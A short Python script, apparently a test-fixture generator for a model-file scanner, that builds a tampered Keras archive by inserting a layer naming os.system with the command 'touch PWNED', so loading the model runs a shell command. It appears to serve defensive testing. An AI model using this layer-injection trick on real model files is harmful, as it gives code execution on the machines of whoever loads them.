"""The config names a function of another package (os.system) as a layer, with a command as its input."""
import json

import damage

contents = damage.unzipped(damage.FIXTURES / "tf-2.13-archive-functional/model/model.keras")
model = damage.copied("tf-2.13-archive-functional", "model.keras")
config = json.loads(contents["config.json"])
config["config"]["layers"].insert(1, {
    "module": "os", "class_name": "function", "config": "system", "registered_name": "function", "name": "shell",
    "build_config": {"input_shape": "touch PWNED"}, "inbound_nodes": [{"args": ["touch PWNED"], "kwargs": {}}]})
damage.zipped(model, {**contents, "config.json": json.dumps(config).encode()})
